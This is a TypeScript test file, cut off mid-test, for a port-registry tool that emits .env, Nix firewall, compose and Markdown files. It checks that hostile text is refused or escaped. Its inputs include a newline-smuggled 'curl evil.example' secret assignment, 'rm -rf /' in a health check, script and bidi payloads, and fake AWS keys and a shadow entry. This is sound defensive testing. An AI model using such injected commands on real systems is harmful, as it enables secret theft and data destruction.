import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import fc from 'fast-check';
import { Document as YamlDocument } from 'yaml';
import { checkRegistry, RegistrySpec } from '../lib';
import { composeFiles } from '../lib/emit/compose';
import { connectionsTable } from '../lib/emit/connections-table';
import { envFiles } from '../lib/emit/env-files';
import { firewallFiles } from '../lib/emit/firewall';
import { workloadSpec } from '../lib/emit/workload';
import { markdownCell } from '../lib/emit/escape';
import { portsMarkdown } from '../lib/emit/ports-md';
import { parseLockFile } from '../lib/allocation/lock';
import { registryFromCompose } from '../lib/compose/import';
import { locateFindings, parseRegistryText } from '../lib/file/registry-file';
import { ROOT } from './support/project';
import { cleanSpec } from './support/specs';

/**
 * Hostile text: whatever a free-text field holds, it either is refused with a finding that names it,
 * or it reaches the outputs without adding a line to a .env or Nix file, a cell to a Markdown table,
 * or markup to the registry document.
 */
const nasty = fc.oneof(
  fc.string(),
  fc.constantFrom('a\nAWS_SECRET_ACCESS_KEY=$(curl x)', 'x\r\ny', '| a | b |', '<!-- hidden', '<script>alert(1)</script>', '`code', 'line\u2028break', '"quoted" \\ back', '${HOME}'),
  fc.string({ unit: fc.constantFrom('a', '|', '\n', '\r', '<', '>', '`', '#', '=', ' ', '"', '\\', '\u0000', '\u2028') }),
);

/**
 * The text outside code spans, read as CommonMark reads it: a backslash-escaped character outside
 * a span is a literal (left out here: it cannot open anything), a run of backticks opens a span that
 * the next run of the same length on the line closes, and inside a span a backslash is just a
 * backslash.
 */
function outsideCodeSpans(markdown: string): string {
  let out = '';
  for (let i = 0; i < markdown.length;) {
    const c = markdown[i];
    if (c === '\\' && i + 1 < markdown.length && markdown[i + 1] !== '\n') {
      i += 2;
      continue;
    }
    if (c === '`') {
      let n = 0;
      while (markdown[i + n] === '`') n++;
      let close = -1;
      for (let j = i + n; j < markdown.length && markdown[j] !== '\n'; j++) {
        if (markdown[j] !== '`') continue;
        let m = 0;
        while (markdown[j + m] === '`') m++;
        if (m === n) { close = j; break; }
        j += m - 1;
      }
      if (close >= 0) {
        i = close + n;
        continue;
      }
      out += '`'.repeat(n);
      i += n;
      continue;
    }
    out += c;
    i++;
  }
  return out;
}

/** A Markdown table's rows all have the header's number of cells (escaped pipes do not count). */
function tablesKeepTheirShape(markdown: string): void {
  const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length;
  let width: number | undefined;
  for (const line of markdown.split('\n')) {
    if (!line.startsWith('|')) {
      width = undefined;
      continue;
    }
    width ??= cells(line);
    if (cells(line) !== width) throw new Error(`a table row changed shape: ${JSON.stringify(line)}`);
  }
  // Outside code spans (where Markdown shows `<` as it is), no tag and no comment can open.
  const prose = outsideCodeSpans(markdown);
  if (/<[a-zA-Z!/]/.test(prose)) throw new Error(`raw HTML in the registry document: ${prose.split('\n').find(l => /<[a-zA-Z!/]/.test(l))}`);
}

test('free text never adds a line, a key or a cell to an output; refused text is named', () => {
  fc.assert(fc.property(nasty, nasty, nasty, nasty, (description, owner, reason, command) => {
    const spec = cleanSpec() as RegistrySpec & { services: NonNullable<RegistrySpec['services']> };
    spec.description = description;
    spec.services.api.owner = owner;
    spec.services.api.description = description;
    spec.services.api.healthCheck = { command, port: 'http' };
    spec.externals!.db.kind = 'postgres';
    spec.waivers = [{ rule: 'unreachable', service: 'worker', reason: reason || 'x' }];
    spec.services.worker.public = false;
    const r = checkRegistry(spec);
    if (!r.ok) {
      // Refused: only because of the text, and the finding says which field.
      const errors = r.findings.filter(f => f.severity === 'error' && !f.waived);
      for (const f of errors) expect(f.rule).toBe('invalid-value');
      return;
    }
    for (const [, text] of envFiles(r)) {
      for (const line of text.split('\n').filter(Boolean)) expect(line).toMatch(/^(#[^\n]*|[A-Z_][A-Z0-9_]*=[^\n]*)$/);
    }
    for (const [, text] of firewallFiles(r)) expect(text.split('\n')).toHaveLength(7);
    for (const [, text] of composeFiles(r)) expect(text.split('\n').filter(l => l.startsWith('#')).length).toBeGreaterThanOrEqual(2);
    tablesKeepTheirShape(portsMarkdown(r));
    tablesKeepTheirShape(connectionsTable(r));
  }), { numRuns: Number(process.env.FC_RUNS ?? 300), seed: process.env.FC_SEED ? Number(process.env.FC_SEED) : undefined });
});

test('a Markdown cell cannot break its table or open markup', () => {
  expect(markdownCell('a | b\r\nc <!-- d `e`')).toBe('a \\| b c \\<!-- d \\`e\\`');
  expect(markdownCell('[x](javascript:alert(1)) ![p](https://t.example/p.gif) a@b.example www.x.example: ok'))
    .toBe(String.raw`\[x\](javascript\:alert(1)) !\[p\](https\://t\.example/p\.gif) a\@b\.example www\.x\.example: ok`);
});

describe('free text is one visible line', () => {
  test.each([
    ['a bidirectional override in a description', (s: RegistrySpec) => { s.services!.api.description = 'safe\u202eexe.txt'; }, 'services.api.description', 'U+202E'],
    ['a bidirectional isolate in an owner', (s: RegistrySpec) => { s.services!.api.owner = 'team\u2067x'; }, 'services.api.owner', 'U+2067'],
    ['U+FFFF in an external description', (s: RegistrySpec) => { s.externals!.db.description = 'pg\uffff'; }, 'externals.db.description', 'U+FFFF'],
    ['a newline in an avoided port reason', (s: RegistrySpec) => { s.avoid = { ports: [{ port: 8199, reason: 'a\n# b' }] }; }, 'avoid.ports[0].reason', 'line break'],
    ['a C1 control in an avoided range reason', (s: RegistrySpec) => { s.avoid = { ranges: [{ range: [8190, 8191], reason: 'a\u009b2J' }] }; }, 'avoid.ranges[0].reason', 'control character'],
    ['a newline in a health check command', (s: RegistrySpec) => { s.services!.api.healthCheck = { command: 'curl x\nrm -rf /' }; }, 'services.api.healthCheck.command', 'line break'],
    ['a lone surrogate in a health check path', (s: RegistrySpec) => { s.services!.api.healthCheck = { path: '/h\ud800' }; }, 'services.api.healthCheck.path', 'lone surrogate'],
    ['a newline in what a de-facto port is', (s: RegistrySpec) => { s.defactoPorts = { 3000: { what: 'x\ny' } }; }, 'defactoPorts.3000.what', 'line break'],
  ])('%s is refused with a finding naming the field', (_what, edit, path, words) => {
    const spec = cleanSpec();
    edit(spec);
    const r = checkRegistry(spec);
    expect(r.ok).toBe(false);
    const f = r.findings.find(x => x.rule === 'invalid-value' && x.where.path === path);
    expect(f?.message).toContain(words);
    // The message shows the character as an escape, never raw.
    expect(f?.message).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2066-\u2069\uffff\n]/);
  });

  test('check prints C1 controls and bidirectional overrides from values as escapes', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-term-'));
    fs.writeFileSync(path.join(dir, 'ports.yaml'), 'name: x\nenvironments:\n  dev: { range: [8000, 8099] }\nservices:\n  api:\n    public: true\n    ports:\n      http: { offset: 1 }\n' +
      '    connectsTo: [{ to: "ghost\\u009b2J\\u202eexe" }]\n');
    const r = spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), 'check'], { cwd: dir, encoding: 'utf8' });
    expect(r.status).not.toBe(0);
    const out = r.stdout + r.stderr;
    expect(out).toContain('ghost');
    expect(out).not.toMatch(/[\u0080-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out).toMatch(/\\u\{9b\}|\\u009b/);
  });
});

test('an external host with a newline is refused, not written into .env', () => {
  const spec = cleanSpec();
  spec.externals!.db.host = 'db.internal\nAWS_SECRET_ACCESS_KEY=$(curl evil.example)';
  const r = checkRegistry(spec);
  expect(r.ok).toBe(false);
  expect(r.findings.find(f => f.rule === 'invalid-value')?.where).toMatchObject({ service: 'db', path: 'externals.db.host' });
});

test('a registry named constructor is checked like any other (lock entries are looked up as own properties)', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-proto-'));
  fs.writeFileSync(path.join(dir, 'ports.yaml'), 'name: constructor\nenvironments:\n  production: { range: [8100, 8199] }\nservices:\n  api:\n    public: true\n    ports:\n      http: { auto: true }\n');
  fs.writeFileSync(path.join(dir, 'ports.lock.json'), JSON.stringify({ lockfileVersion: 1, registries: {} }));
  const r = spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), 'check', '--json'], { cwd: dir, encoding: 'utf8' });
  expect(r.stderr).not.toMatch(/internal error|\n\s+at /);
  expect(r.status).toBe(0);
  expect(JSON.parse(r.stdout).registries[0]).toMatchObject({ name: 'constructor' });
});

describe('generated variable names never clash silently', () => {
  test('a client of a.b, a.c and a-b would get A_B_PORT twice: an error naming both', () => {
    const spec = cleanSpec();
    spec.services = {
      a: { public: true, ports: { b: { offset: 1 }, c: { offset: 2 } } },
      'a-b': { public: true, ports: { http: { offset: 3 } } },
      client: { public: true, ports: { http: { offset: 4 } }, connectsTo: [{ to: 'a', port: 'b' }, { to: 'a', port: 'c' }, { to: 'a-b' }] },
    };
    const f = checkRegistry(spec).findings.filter(x => x.rule === 'env-var-collision');
    expect(f[0].message).toBe('client connects to a.b and to a-b, and both give it the variable A_B_HOST');
    expect(f[0].where).toMatchObject({ service: 'client', other: 'a.b', path: 'services.client.connectsTo[2]' });
  });

  test("a.b's A_B_PORT in .env and the A_B_PORT a client of a-b gets are one name for two ports: an error", () => {
    const spec = cleanSpec();
    spec.services = {
      a: { public: true, ports: { b: { offset: 1 } } },
      'a-b': { public: true, ports: { http: { offset: 3 } } },
      client: { public: true, ports: { http: { offset: 4 } }, connectsTo: [{ to: 'a-b' }] },
    };
    const f = checkRegistry(spec).findings.filter(x => x.rule === 'env-var-collision');
    expect(f.map(x => x.message)).toEqual(['A_B_PORT is the .env variable of a.b, and client also gets A_B_PORT for its connection to a-b, with another value']);
  });

  test('a service named database and a PostgreSQL would both be DATABASE_URL', () => {
    const spec = cleanSpec();
    spec.services!.database = { public: true, kind: 'http', ports: { http: { offset: 30 } } };
    spec.services!.api.connectsTo = [{ to: 'db' }, { to: 'database' }];
    const f = checkRegistry(spec).findings.filter(x => x.rule === 'env-var-collision');
    expect(f).toHaveLength(1);
    expect(f[0].message).toMatch(/api connects to database, whose URL variable is DATABASE_URL, and to db, for which DATABASE_URL is written as the usual alias/);
    // Naming the connection's variable resolves it.
    spec.services!.api.connectsTo = [{ to: 'db' }, { to: 'database', env: 'DATABASE_SERVICE_URL' }];
    expect(checkRegistry(spec).findings.filter(x => x.rule === 'env-var-collision')).toEqual([]);
  });
});

describe('messages say what the input is, not what it became', () => {
  const load = (yaml: string) => parseRegistryText(yaml, 'ports.yaml');
  const base = 'name: x\nenvironments:\n  dev: { range: [8000, 8099] }\n';

  test('.inf and .nan are named as YAML writes them, not as "null"', () => {
    const messages = load(`${base}services:\n  api:\n    ports:\n      http: { port: .inf }\n  web:\n    ports:\n      http: { port: -.inf }\n  db:\n    ports:\n      main: { port: .nan }\n`)
      .findings.map(f => f.message).join('\n');
    expect(messages).toContain('services.api.ports.http.port is .inf (not a number a port can be)');
    expect(messages).toContain('services.web.ports.http.port is -.inf');
    expect(messages).toContain('services.db.ports.main.port is .nan');
    expect(messages).not.toContain('is null');
  });

  test('a !!set is called a set, not {}', () => {
    const [f] = load(`${base}services: !!set { api, web }\n`).findings;
    expect(f.message).toBe('services is a set (!!set) of "api", "web", not a map; expected a map');
  });

  test('a reversed category range is one invalid-range error, not also a port without a range', () => {
    const r = checkRegistry({ name: 'x', environments: { dev: { range: [8000, 8099] } }, categories: { web: { ranges: [[8099, 8000]] } },
      services: { api: { category: 'web', public: true, ports: { http: {} } } } });
    expect(r.findings.filter(f => f.severity === 'error').map(f => f.rule)).toEqual(['invalid-range']);
  });

  test('a category outside the band says so, and how to fix it', () => {
    const r = checkRegistry({ name: 'x', environments: { dev: { range: [8000, 8099] } }, categories: { web: { ranges: [[9000, 9099]] } },
      services: { api: { category: 'web', public: true, ports: { http: {} } } } });
    const f = r.findings.find(x => x.rule === 'no-free-port')!;
    expect(f.message).toBe('no free port for api.http (dev): the ranges of category web (9000-9099) lie outside the band 8000-8099 of dev');
    expect(f.fix).toBe('move a range of category web inside 8000-8099, or widen the band of dev');
  });

  test.each([
    ['"ports": "abc"', '{"x":{"ports":"abc"}}', 'registries.x.ports is "abc", not a map'],
    ['a registry entry that is a number', '{"x":5}', 'registries.x is 5, not {'],
    ['a port that is a string', '{"x":{"ports":{"dev/api/http":"80"}}}', 'registries.x.ports entry "dev/api/http" is "80", not an integer'],
  ])('a lock file with %s names the entry as written', (_what, registries, words) => {
    expect(() => parseLockFile(`{"lockfileVersion":1,"registries":${registries}}`, 'ports.lock.json')).toThrow(words);
  });

  test('extends: with an absolute path reads that file, not one under the registry\'s folder', () => {
    const baseDir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-base-'));
    const teamDir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-team-'));
    fs.writeFileSync(path.join(baseDir, 'org.yaml'), 'name: org\nenvironments:\n  dev: { range: [8000, 8099] }\n');
    fs.writeFileSync(path.join(teamDir, 'ports.yaml'), `name: team\nextends: ${path.join(baseDir, 'org.yaml')}\nservices:\n  api:\n    public: true\n    ports:\n      http: { offset: 1 }\n`);
    const r = spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), 'check', '--json'], { cwd: teamDir, encoding: 'utf8' });
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout).registries[0].name).toBe('team');
  });
});

describe('import says what it leaves out', () => {
  const notes = (compose: string) => registryFromCompose(compose, 'x');

  test('compose variables: the default is used and said; without a default the entry is left out and the variable named', () => {
    const r = notes('services:\n  api:\n    ports:\n      - "${PORT:-8080}:80"\n      - "${OTHER}:81"\n      - "$$8082:82"\n');
    expect(r.spec.services!.api.ports).toEqual({ http: { port: 8080, targetPort: 80 } });
    expect(r.notes).toContain('api: "${PORT:-8080}:80" uses compose variables; imported with their defaults as "8080:80"');
    expect(r.notes.find(n => n.includes('${OTHER}'))).toMatch(/variable OTHER, which has no default here; left out/);
  });

  test('a mapping with two protocols is named, not read as TCP', () => {
    const r = notes('services:\n  api:\n    ports:\n      - "9000:9000/tcp/udp"\n      - "9001:9001"\n');
    expect(Object.values(r.spec.services!.api.ports).map(p => p.port)).toEqual([9001]);
    expect(r.notes).toContain('api: "9000:9000/tcp/udp" names more than one protocol; a mapping has one (write one entry per protocol)');
  });

  test('a service named __proto__ and a dependency on an undefined service are said, not dropped', () => {
    const r = notes('services:\n  __proto__:\n    ports: ["7000:7000"]\n  api:\n    ports: ["8080:80"]\n    depends_on: [ghost]\n');
    expect(Object.keys(r.spec.services!)).toEqual(['api']);
    expect(r.notes.some(n => n.startsWith('"__proto__" cannot be a service name'))).toBe(true);
    expect(r.notes).toContain('api depends on "ghost", which the file does not define; no connection to it');
  });

  test('a range of 64,000 ports is left out at once with a note, not imported port by port', () => {
    const started = Date.now();
    const r = notes('services:\n  api:\n    ports:\n      - "1000-65000:1000-65000"\n      - "8080:80"\n');
    expect(Date.now() - started).toBeLessThan(2000);
    expect(Object.keys(r.spec.services!.api.ports)).toHaveLength(1);
    expect(r.notes[0]).toMatch(/publishes 64,001 ports; .* ranges of more than 100 are left out/);
  });
});

test('ranges and ports written with fractions are invalid-range errors, and never make the allocator hand out a fraction or crash', () => {
  const edits: Array<Record<string, unknown>> = [
    { avoid: { ranges: [[8100, 8105.5]], ports: [8106.5] } },
    { environments: { production: { range: [8100.5, 8199] } } },
    { categories: { c: { ranges: [[8110.5, 8120]] } } },
    { categories: { c: { ranges: [[8110, 8120]], fallbackRanges: [[8150, 8155.5]] } } },
    { categories: { c: { ranges: [[8110, 8120]], assign: 'sequential' } }, avoid: { ranges: [[8110, 8111.5]] } },
  ];
  for (const edit of edits) {
    const spec = {
      name: 'r', environments: { production: { range: [8100, 8199] } }, ...edit,
      services: {
        a: { public: true, ...(edit.categories ? { category: 'c' } : {}), ports: { http: { fallback: { shift: 50 } }, admin: { offset: 'auto' } } },
        b: { public: true, ports: { http: { port: 8151 } } },
      },
    };
    const r = checkRegistry(spec);
    expect(r.findings.filter(f => f.rule === 'invalid-range').length).toBeGreaterThan(0);
    expect(r.ok).toBe(false);
    const numbers = r.allocations.flatMap(a => [a.port, ...(a.fallback !== undefined ? [a.fallback] : [])]);
    expect(numbers.filter(n => !Number.isInteger(n))).toEqual([]);
    for (const f of r.findings) expect(f.fix ?? '').not.toMatch(/next free port is \d+\.\d/);
  }
});

describe('addresses are read as strictly as the API server reads them', () => {
  const cidrFindings = (edit: (s: RegistrySpec) => void) => {
    const spec = cleanSpec();
    edit(spec);
    return checkRegistry(spec).findings.filter(f => f.rule === 'invalid-cidr' || f.rule === 'open-cidr');
  };

  test.each([
    ['a zone', 'fe80::1%eth0/64', 'has a zone'],
    ['host bits set (IPv4)', '10.0.0.5/8', 'would admit all of 10.0.0.0/8; write 10.0.0.0/8 for the block, or 10.0.0.5/32 for the one address'],
    ['host bits set (IPv6)', '2001:db8::1/32', 'would admit all of 2001:db8::/32'],
    ['a leading zero in the address', '010.0.0.0/8', 'is not ADDRESS/PREFIX'],
    ['a leading zero in the prefix', '10.0.0.0/08', 'is not ADDRESS/PREFIX'],
    ['a signed prefix', '10.0.0.0/+8', 'is not ADDRESS/PREFIX'],
  ])('an external CIDR with %s is an invalid-cidr error', (_what, cidr, words) => {
    const [f] = cidrFindings(s => { s.externals!.db.cidrs = [cidr]; });
    expect(f).toMatchObject({ rule: 'invalid-cidr', severity: 'error', where: { service: 'db', path: 'externals.db.cidrs' } });
    expect(f.message).toContain(words);
  });

  test('a public CIDR with host bits set is an error too, naming the block it would open', () => {
    const [f] = cidrFindings(s => { s.services!.api.public = { cidrs: ['100.64.0.1/10'] }; });
    expect(f).toMatchObject({ rule: 'invalid-cidr', where: { service: 'api', path: 'services.api.public.cidrs' } });
    expect(f.message).toContain('100.64.0.0/10');
  });

  test.each(['0.0.0.0/0', '::/0'])('an external at %s is an open-cidr warning (waivable), not silence', cidr => {
    const spec = cleanSpec();
    spec.externals!.db.cidrs = [cidr];
    const r = checkRegistry(spec);
    expect(r.ok).toBe(true);
    const f = r.findings.filter(x => x.rule === 'open-cidr');
    expect(f).toEqual([expect.objectContaining({ severity: 'warning', where: expect.objectContaining({ service: 'db', path: 'externals.db.cidrs' }) })]);
    expect(f[0].message).toContain('every');
    spec.waivers = [{ rule: 'open-cidr', service: 'db', reason: 'a SaaS database without fixed addresses' }];
    expect(checkRegistry(spec).findings.find(x => x.rule === 'open-cidr')?.waived).toBeTruthy();
  });

  test('a host or hostIp with a zone is refused; an IPv6 host is bracketed in URLs', () => {
    const spec = cleanSpec();
    spec.externals!.db.host = 'fe80::1%eth0';
    spec.services!.api.ports.http.hostIp = 'fe80::1%lo';
    const paths = checkRegistry(spec).findings.filter(f => f.rule === 'invalid-value').map(f => f.where.path);
    expect(paths).toEqual(expect.arrayContaining(['externals.db.host', 'services.api.ports.http.hostIp']));
    spec.externals!.db.host = '2001:db8::5';
    delete spec.services!.api.ports.http.hostIp;
    const r = checkRegistry(spec);
    expect(r.ok).toBe(true);
    expect(envFiles(r).get('production.env')).toContain('DB_URL="postgres://${DB_USER}:${DB_PASSWORD}@[2001:db8::5]:5432/${DB_DB}"');
  });
});

describe('the NixOS firewall is never wider than the registry', () => {
  /** What a snippet opens: [source, protocol, port], `*` for every source. */
  function opened(nix: string): string[] {
    const out: string[] = [];
    for (const m of nix.matchAll(/allowed(TCP|UDP)Ports = \[([^\]]*)\]/g)) for (const p of m[2].trim().split(/\s+/).filter(Boolean)) out.push(`* ${m[1]} ${p}`);
    for (const m of nix.matchAll(/^ {4}ip6? saddr \{ ([^}]*) \} (tcp|udp) dport (\d+) accept$/gm)) {
      for (const c of m[1].split(', ')) out.push(`${c} ${m[2].toUpperCase()} ${m[3]}`);
    }
    return out.sort();
  }

  test('public to CIDRs opens the ports to those blocks only, with rules nftables accepts; public to namespaces opens nothing on the host', () => {
    const spec = cleanSpec();
    spec.services!.api.public = { cidrs: ['100.64.0.0/10', '2001:db8::/32'] };
    spec.services!.worker = { public: { namespaces: ['ingress-nginx'] }, ports: { metrics: { offset: 20 }, dns: { offset: 21, protocol: 'UDP' } } };
    spec.services!.web = { public: true, ports: { http: { offset: 30 } } };
    spec.services!.api.connectsTo = [{ to: 'db' }, { to: 'worker', port: 'metrics' }];
    const r = checkRegistry(spec);
    expect(r.findings.filter(f => f.severity === 'error')).toEqual([]);
    const nix = firewallFiles(r).get('production.nix')!;
    expect(opened(nix)).toEqual(['* TCP 8130', '100.64.0.0/10 TCP 8110', '2001:db8::/32 TCP 8110'].sort());
    expect(nix).toContain('# Public to namespaces only, so not opened on the host: worker.dns 8121/UDP, worker.metrics 8120/TCP.');
    const rules = nix.split("extraInputRules = ''\n")[1].split("  '';")[0];
    const nft = spawnSync('sh', ['-c', 'command -v nft']);
    if (nft.status === 0) {
      const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-nft-')), 'rules.nft');
      fs.writeFileSync(file, `table inet filter {\n  chain input {\n${rules}  }\n}\n`);
      const check = spawnSync('nft', ['-c', '-f', file], { encoding: 'utf8' });
      expect(check.stderr).toBe('');
      expect(check.status).toBe(0);
    }
  });

  test('random public declarations: every source the snippet opens a port to, the registry admits', () => {
    const cidr = fc.constantFrom('100.64.0.0/10', '10.0.0.0/8', '192.0.2.10/32', '2001:db8::/32', 'fd00::/8');
    const publicSpec = fc.oneof(fc.constant(true), fc.constant(false), fc.record({ cidrs: fc.array(cidr, { maxLength: 3 }), namespaces: fc.array(fc.constantFrom('ingress-nginx', 'monitoring'), { maxLength: 2 }) }));
    fc.assert(fc.property(publicSpec, publicSpec, fc.constantFrom('TCP', 'UDP', 'SCTP'), (a, b, protocol) => {
      const spec = cleanSpec();
      spec.services!.api.public = a as never;
      spec.services!.worker = { public: b as never, ports: { metrics: { offset: 20, protocol: protocol as 'TCP' } } };
      const r = checkRegistry(spec);
      if (!r.ok) return;
      const admits = (p: unknown, source: string) => p === true || (typeof p === 'object' && !!p && ((p as { cidrs?: string[] }).cidrs ?? []).includes(source));
      for (const line of opened(firewallFiles(r).get('production.nix')!)) {
        const [source, , port] = line.split(' ');
        const pub = port === '8110' ? a : b;
        expect([line, source === '*' ? pub === true : admits(pub, source)]).toEqual([line, true]);
      }
    }), { numRuns: 200 });
  });
});

describe('bases named by extends', () => {
  const check = (dir: string, ...args: string[]) => spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), 'check', ...args], { cwd: dir, encoding: 'utf8' });
  const team = (extendsPath: string, port = 1) => `name: team\nextends: ${extendsPath}\nservices:\n  api:\n    public: true\n    ports:\n      http: { offset: ${port} }\n`;

  test("a base's own extends is followed: the grandparent's avoided port and environments hold for the team", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-chain-'));
    fs.mkdirSync(path.join(dir, 'org'));
    fs.writeFileSync(path.join(dir, 'org', 'root.yaml'), 'name: org\nenvironments:\n  dev: { range: [8000, 8099] }\navoid:\n  ports: [{ port: 8011, reason: used by the legacy proxy }]\n');
    fs.writeFileSync(path.join(dir, 'dept.yaml'), 'name: dept\nextends: org/root.yaml\ncategories:\n  web: { ranges: [[8000, 8049]] }\n');
    fs.writeFileSync(path.join(dir, 'ports.yaml'), team('dept.yaml', 11));
    const r = check(dir, '--json');
    expect(r.stderr).toBe('');
    const findings = JSON.parse(r.stdout).registries[0].findings as Array<{ rule: string; message: string }>;
    expect(findings.find(f => f.rule === 'avoided-port')?.message).toContain('8011');
    fs.writeFileSync(path.join(dir, 'ports.yaml'), team('dept.yaml', 12));
    expect(check(dir).status).toBe(0);
  });

  test('a loop of extends is an error naming the files, not silence', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-loop-'));
    fs.writeFileSync(path.join(dir, 'a.yaml'), 'name: a\nextends: b.yaml\nenvironments:\n  dev: { range: [8000, 8099] }\n');
    fs.writeFileSync(path.join(dir, 'b.yaml'), 'name: b\nextends: a.yaml\n');
    fs.writeFileSync(path.join(dir, 'ports.yaml'), team('a.yaml'));
    const r = check(dir);
    expect(r.status).not.toBe(0);
    expect(r.stdout + r.stderr).toMatch(/extends loops: ports\.yaml extends a\.yaml extends b\.yaml extends a\.yaml/);
    expect(r.stdout + r.stderr).not.toMatch(/\n\s+at /);
    // A team that extends itself is a loop too.
    fs.writeFileSync(path.join(dir, 'ports.yaml'), 'name: team\nextends: ports.yaml\nenvironments:\n  dev: { range: [8000, 8099] }\n');
    expect(check(dir).stdout + check(dir).stderr).toMatch(/extends loops: ports\.yaml extends ports\.yaml/);
  });

  test("a base file's keys and values are never shown in a message; a file that is not .yaml/.yml/.json is not read", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-leak-'));
    fs.writeFileSync(path.join(dir, 'keys.yaml'), 'aws_access_key_id: AKIAIOSFODNN7EXAMPLE\naws_secret_access_key: wJalrXUtnFEMI/K7MDENG\n');
    fs.writeFileSync(path.join(dir, 'shadow'), 'root:$6$saltsalt$hashhashhash:19000:0:99999:7:::\n');
    fs.writeFileSync(path.join(dir, 'list.yaml'), '- AKIAIOSFODNN7EXAMPLE\n');
    fs.writeFileSync(path.join(dir, 'broken.yaml'), 'key: [AKIAIOSFODNN7EXAMPLE\n');
    for (const base of ['keys.yaml', 'shadow', 'list.yaml', 'broken.yaml']) {
      fs.writeFileSync(path.join(dir, 'ports.yaml'), team(base));
      for (const args of [[], ['--json']]) {
        const r = check(dir, ...args);
        const out = r.stdout + r.stderr;
        expect([base, r.status]).not.toEqual([base, 0]);
        expect(out).toContain(base);
        for (const secret of ['AKIA', 'aws_', 'wJalr', 'root:', 'hashhash', '$6$']) expect([base, secret, out.includes(secret)]).toEqual([base, secret, false]);
      }
    }
    fs.writeFileSync(path.join(dir, 'ports.yaml'), team('shadow'));
    expect(check(dir).stdout + check(dir).stderr).toContain('is not a .yaml, .yml or .json file, so it is not read');
  });
});

describe('positions of key paths', () => {
  const locateIn = (text: string) => {
    const loaded = parseRegistryText(text, 'ports.yaml');
    return locateFindings(checkRegistry(loaded.spec!).findings, loaded.locate).filter(f => f.rule === 'invalid-value');
  };
  const head = 'name: x\nenvironments:\n  dev: { range: [8000, 8099] }\nservices:\n  api:\n    public: true\n    ports:\n      http: { offset: 1 }\n';

  test('a label key that holds dots is located where it stands, in flow and in block style', () => {
    const flow = locateIn(`${head}    selector: { tier: web, "app.kubernetes.io/name": "Not a value!" }\n`);
    expect(flow.map(f => [f.where.path, f.where.file])).toEqual([['services.api.selector.app.kubernetes.io/name', 'ports.yaml:9:54']]);
    const block = locateIn(`${head}    selector:\n      tier: web\n      app.kubernetes.io/name: "Not a value!"\n`);
    expect(block.map(f => f.where.file)).toEqual(['ports.yaml:11:31']);
    // A tag sends the file to the position-keeping parser: the same place.
    const tagged = locateIn(`${head}    selector: { tier: !!str web, "app.kubernetes.io/name": "Not a value!" }\n`);
    expect(tagged.map(f => f.where.file)).toEqual(['ports.yaml:9:60']);
  });

  test('a selector key of 32,000 dots is located in one walk, not one lookup per prefix (which took minutes)', () => {
    const key = 'a.'.repeat(32_000);
    // Every lookup by key path into the document is counted: the walk needs none.
    const getIn = jest.spyOn(YamlDocument.prototype, 'getIn');
    try {
      const [f] = locateIn(`${head}    selector: { "${key}b": x }\n`);
      expect(f.where.path).toBe(`services.api.selector.${key}b`);
      expect(f.where.file).toBe(`ports.yaml:9:${'    selector: { "'.length + key.length + 'b": '.length + 1}`);
      expect(getIn.mock.calls.length).toBeLessThan(10);
    } finally {
      getIn.mockRestore();
    }
  });
});

describe('the lock file is read as written', () => {
  const check = (dir: string) => spawnSync(process.execPath, [path.join(ROOT, 'bin', 'cdk8s-ports.js'), 'check'], { cwd: dir, encoding: 'utf8' });
  const project = (lock: string) => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cdk8s-ports-lock-'));
    fs.writeFileSync(path.join(dir, 'ports.yaml'), 'name: x\nenvironments:\n  dev: { range: [8000, 8099] }\nservices:\n  api:\n    public: true\n    ports:\n      http: { auto: true }\n');
    fs.writeFileSync(path.join(dir, 'ports.lock.json'), lock);
    return dir;
  };

  test('a key written twice is an error at its position in the lock, not the last one winning', () => {
    const r = check(project('{"lockfileVersion":1,"registries":{"x":{"ports":{"dev/api/http":8005,"dev/api/http":8007},"offsets":{}}}}'));
    expect(r.status).not.toBe(0);
    expect(r.stderr).toContain('ports.lock.json:1:70: the key "dev/api/http" is written twice');
  });

  test('an entry that is no port is reported at its position in the lock, not at a line of ports.yaml', () => {
    const r = check(project('{\n  "lockfileVersion": 1,\n  "registries": {\n    "x": {\n      "ports": {\n        "dev/api/http": 70000\n      }\n    }\n  }\n}\n'));
    expect(r.status).not.toBe(0);
    expect(r.stdout + r.stderr).toContain('ports.lock.json:6:25: registries.x.ports entry "dev/api/http" is 70000, not a port (1-65535)');
    expect(r.stdout + r.stderr).not.toContain('ports.yaml:');
  });
});

describe('declarations that would be accepted and mean nothing are findings', () => {
  test('a health check naming a port the service does not have is unknown-port (bind would write no probe)', () => {
    const spec = cleanSpec();
    spec.services!.api.healthCheck = { path: '/health', port: 'admin' };
    const f = checkRegistry(spec).findings.filter(x => x.rule === 'unknown-port');
    expect(f).toEqual([expect.objectContaining({ severity: 'error', where: expect.objectContaining({ service: 'api', path: 'services.api.healthCheck.port' }) })]);
    expect(f[0].message).toContain('"admin"');
    expect(f[0].fix).toBe('use one of its ports: http');
    spec.services!.api.healthCheck = { path: '/health', port: 'http' };
    expect(checkRegistry(spec).findings.filter(x => x.rule === 'unknown-port')).toEqual([]);
  });

  test('auto: false without port or offset is a port-source error, not an automatic port', () => {
    const spec = cleanSpec();
    spec.services!.worker.ports.metrics = { auto: false };
    const r = checkRegistry(spec);
    expect(r.ok).toBe(false);
